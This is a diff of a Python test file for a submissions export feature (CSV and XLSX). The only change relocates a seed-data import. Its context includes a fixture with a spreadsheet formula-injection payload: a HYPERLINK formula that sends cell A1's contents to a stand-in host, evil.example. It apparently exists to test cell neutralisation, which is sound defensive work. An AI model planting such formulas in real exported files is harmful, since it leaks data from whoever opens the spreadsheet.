@@ -11,9 +11,9 @@ from openpyxl import load_workbook
 
 from submissions.adapters.export import export_rows, neutralise_cell, rows_to_csv, rows_to_xlsx
 from submissions.domain import submit_entry, withdraw_entry
-from submissions.seed import load_seed_contest, load_seed_entries
 
 from .conftest import make_author, make_content
+from .seed import load_seed_contest, load_seed_entries
 
 HOSTILE = {
     "title": '=HYPERLINK("http://evil.example/?"&A1,"Нажми")',
